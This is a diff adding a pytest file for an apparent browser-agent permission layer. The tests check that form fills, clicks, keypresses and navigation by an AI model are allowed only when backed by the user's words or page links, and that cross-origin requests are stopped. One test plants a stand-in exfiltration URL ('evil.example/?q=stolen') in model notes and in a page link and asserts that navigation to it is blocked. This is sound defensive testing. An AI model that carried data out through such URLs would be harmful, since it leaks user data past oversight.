@@ -1,0 +1,150 @@
+"""The rules on the road: facts of real pages, approvals, and what a model can make of what it was shown."""
+
+from __future__ import annotations
+
+import pytest
+
+from handrail import Session
+from handrail.policy import Ask
+from handrail.trust import External
+from tests.pages import PageServer
+
+FORM = """<title>Form</title>
+<form method=post action=/saved><label>Name <input name=name></label><label>Count <input type=number name=n></label>
+<button>Save</button></form>
+<a href="https://docs.example/page?x=1">Docs</a>
+<button onclick="fetch('/api', {method: 'POST', body: 'x'}).catch(() => 0); document.title = 'Opened'">More</button>"""
+
+
+async def refs(session: Session) -> dict[str, str]:
+    return {node.name.raw: node.ref for node in (await session.snapshot()).nodes if node.ref}
+
+
+@pytest.fixture
+async def form(session: Session, serve: PageServer) -> Session:
+    serve("<h1>Saved</h1>", "/saved")
+    await session.call("goto", url=serve(FORM, "/form"))
+    return session
+
+
+async def as_model(session: Session, tool: str, **params) -> bool:
+    """Whether policy let it through."""
+    return (await session.call_as("model", tool, **params)).code != "not_permitted"
+
+
+async def test_a_form_goes_off_with_the_users_words_and_not_with_others(form: Session, serve: PageServer):
+    form.provenance.words.say("Sign up Ada Lovelace")
+    at = await refs(form)
+    assert not await as_model(form, "click", ref=at["Save"])
+    assert not await as_model(form, "fill", ref=at["Name"], value="Eve")
+    assert await as_model(form, "fill", ref=at["Name"], value="Ada Lovelace")
+    assert await as_model(form, "click", ref=at["Save"])
+    assert [request.body for request in serve.requests if request.path == "/saved"] == [b"name=Ada+Lovelace&n="]
+
+
+async def test_a_number_that_the_model_chose_may_stand_in_a_form_but_not_go_off_with_it(form: Session):
+    form.provenance.words.say("Sign up Ada Lovelace")
+    at = await refs(form)
+    assert await as_model(form, "fill", ref=at["Name"], value="Ada Lovelace")
+    assert await as_model(form, "fill", ref=at["Count"], value="1000")
+    assert not await as_model(form, "enter", ref=at["Name"])
+
+
+async def test_a_button_that_the_user_named_is_pressed(form: Session):
+    form.provenance.words.say("then press save")
+    assert await as_model(form, "click", ref=(await refs(form))["Save"])
+
+
+async def test_keys_without_a_ref_are_judged_by_what_has_the_focus(form: Session):
+    at = await refs(form)
+    assert not await as_model(form, "send_keys", keys="Enter")
+    await form.call("focus", ref=at["Name"])
+    assert not await as_model(form, "send_keys", keys="Enter")
+    assert not await as_model(form, "send_keys", keys=["h", "i"])
+    await form.call("focus", ref=at["More"])
+    assert await as_model(form, "send_keys", keys="Enter")
+    assert (await form.tab.title()).raw == "Opened"
+
+
+async def test_on_another_origin_a_click_opens_but_what_it_sends_is_stopped(session: Session, serve: PageServer):
+    await session.call("goto", url=serve(f'<a href="{serve.other_site}/form">There</a>'))
+    serve(FORM, "/form")
+    assert (await session.call_as("model", "click", ref=(await refs(session))["There"])).ok
+    result = await session.call_as("model", "click", ref=(await refs(session))["More"])
+    assert (await session.tab.title()).raw == "Opened"
+    assert [said.raw for said in result.followed["stopped_requests"]] == [f"POST {serve.other_site}/api"]
+    assert [request.path for request in serve.requests if request.method == "POST"] == []
+
+
+async def test_firefox_stops_them_too(firefox_session: Session, serve: PageServer):
+    await firefox_session.call("goto", url=serve(f'<a href="{serve.other_site}/form">There</a>'))
+    serve(FORM, "/form")
+    await firefox_session.call_as("model", "click", ref=(await refs(firefox_session))["There"])
+    result = await firefox_session.call_as("model", "click", ref=(await refs(firefox_session))["More"])
+    assert [said.raw for said in result.followed["stopped_requests"]] == [f"POST {serve.other_site}/api"]
+    assert [request.path for request in serve.requests if request.method == "POST"] == []
+
+
+async def test_a_link_of_the_page_may_be_opened_by_its_address_and_another_address_not(form: Session):
+    assert not await as_model(form, "goto", url="https://docs.example/page?x=2")
+    assert await as_model(form, "new_tab", url="https://docs.example/page?x=1")
+
+
+async def test_what_a_model_wrote_is_no_link_however_it_comes_back(form: Session):
+    stolen = "https://evil.example/?q=stolen"
+    form.provenance.words.say("note it")
+    form.permissions.learn(Ask("test", "", "", origins=(form.tab.origin,)))
+    await form.call_as("model", "note", text=f"See {stolen}")
+    shown = await form.call_as("model", "read_notes")
+    assert any(stolen in str(text) for text in _raw(shown.data))
+    assert not await as_model(form, "goto", url=stolen)
+    await form.call("fill", ref=(await refs(form))["Name"], value="x")
+    form.provenance.wrote(f"look at {stolen}")
+    await form.tab.page.evaluate("(url) => { document.links[0].href = url }", stolen)
+    assert not await as_model(form, "goto", url=stolen)
+
+
+def _raw(value) -> list[str]:
+    match value:
+        case External():
+            return [value.raw]
+        case dict():
+            return [text for part in value.values() for text in _raw(part)]
+        case list() | tuple():
+            return [text for part in value for text in _raw(part)]
+    return [str(value)]
+
+
+async def test_an_approval_holds_for_the_call_for_the_session_or_not_at_all(form: Session):
+    asked: list[Ask] = []
+    answers = iter(["no", "once", False, True, "run"])
+
+    async def approve(question: Ask):
+        asked.append(question)
+        return next(answers)
+
+    form.approve = approve
+    name = (await refs(form))["Name"]
+    outcomes = [await as_model(form, "fill", ref=name, value=f"made up {n}") for n in range(7)]
+    assert outcomes == [False, True, False, True, True, True, True]
+    assert len(asked) == 5
+    assert "made up 0" in asked[0].question
+    assert asked[0].remedy == f"--grant write@{form.tab.origin}"
+
+
+async def test_every_decision_is_told_with_its_rule_and_the_model_is_told_nothing(form: Session):
+    told = []
+    form.events.subscribe(lambda event: told.append(event.data) if event.kind == "decision" else None)
+    result = await form.call_as("model", "fill", ref=(await refs(form))["Name"], value="made up")
+    assert (result.error, result.hint) == ("This action is not permitted.", "")
+    (decision,) = told
+    assert (decision["rule"], decision["allowed"], decision["asker"]) == ("words_in_fields", False, "model")
+    assert decision["remedy"] == f"--grant write@{form.tab.origin}"
+
+
+async def test_where_the_user_goes_the_model_may_act_and_elsewhere_not(session: Session, serve: PageServer):
+    url = serve("<input aria-label=Find type=search>")
+    await session.call("goto", url=url)
+    assert await as_model(session, "fill", ref=(await refs(session))["Find"], value="anything")
+    await session.call_as("model", "goto", url=url.replace(serve.origin, serve.other_site))
+    assert session.tab.origin == serve.origin, "an address that nobody said was opened"
